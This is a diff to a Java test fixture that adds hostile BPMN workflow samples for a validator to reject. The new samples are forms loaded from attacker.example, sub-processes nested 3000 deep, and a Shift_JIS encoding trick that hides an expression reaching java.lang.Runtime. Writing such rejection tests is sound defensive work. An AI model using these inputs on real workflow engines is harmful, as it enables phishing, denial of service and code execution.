@@ -6,8 +6,9 @@ import java.util.List;
 /**
  * Hostile diagrams that run no code of their own but reach past what a group's workflow may do:
  * flows that copy themselves into millions of executions (at once or a little more at every wait),
- * a call that acts for another group, an owner-task step closing any group's owner task, and a
- * Qunflow task run from an event so its inputs escape their check. Part of {@link HostileBpmn#all}.
+ * a call that acts for another group, an owner-task step closing any group's owner task, a Qunflow
+ * task run from an event so its inputs escape their check, a form Camunda's Tasklist would load from
+ * another site, and nesting deep enough to overflow the checks. Part of {@link HostileBpmn#all}.
  */
 final class HostileFlowBpmn {
 
@@ -102,6 +103,33 @@ final class HostileFlowBpmn {
                 <bpmn:endEvent id="End"><bpmn:incoming>F1</bpmn:incoming></bpmn:endEvent>
                 <bpmn:sequenceFlow id="F0" sourceRef="Start" targetRef="Forge" />
                 <bpmn:sequenceFlow id="F1" sourceRef="Forge" targetRef="End" />"""), "Forge"));
+        cases.add(new HostileBpmn.Case(
+                "a staff task whose form Tasklist would load from another site", process("""
+                <bpmn:startEvent id="Start"><bpmn:outgoing>F0</bpmn:outgoing></bpmn:startEvent>
+                <bpmn:userTask id="Phish" camunda:formKey="embedded:https://attacker.example/form.html">
+                  <bpmn:incoming>F0</bpmn:incoming></bpmn:userTask>
+                <bpmn:sequenceFlow id="F0" sourceRef="Start" targetRef="Phish" />"""), "camunda:formKey"));
+        cases.add(new HostileBpmn.Case(
+                "a start form Tasklist would load from another site", process("""
+                <bpmn:startEvent id="Start" camunda:formKey="embedded:https://attacker.example/start.html"><bpmn:outgoing>F0</bpmn:outgoing></bpmn:startEvent>
+                <bpmn:userTask id="Wait"><bpmn:incoming>F0</bpmn:incoming></bpmn:userTask>
+                <bpmn:sequenceFlow id="F0" sourceRef="Start" targetRef="Wait" />"""), "camunda:formKey"));
+        cases.add(new HostileBpmn.Case(
+                "sub-processes nested thousands deep",
+                process("<bpmn:startEvent id=\"Start\" />"
+                        + "<bpmn:subProcess id=\"S\">".repeat(3000)
+                        + "</bpmn:subProcess>".repeat(3000)),
+                "nest more than"));
+        // Read as Shift_JIS, the bytes of 七 swallow the brace after it: the text checked as
+        // "${x七}" and plain text would run as one expression calling methods.
+        cases.add(new HostileBpmn.Case(
+                "an encoding that hides an expression's end",
+                process("""
+                        <bpmn:startEvent id="Start"><bpmn:outgoing>F0</bpmn:outgoing></bpmn:startEvent>
+                        <bpmn:serviceTask id="Hidden" camunda:expression="${x七}b.getClass().forName('java.lang.Runtime')}">
+                          <bpmn:incoming>F0</bpmn:incoming></bpmn:serviceTask>
+                        <bpmn:sequenceFlow id="F0" sourceRef="Start" targetRef="Hidden" />""").replace("encoding=\"UTF-8\"", "encoding=\"Shift_JIS\""),
+                "camunda:expression"));
         return cases;
     }
 
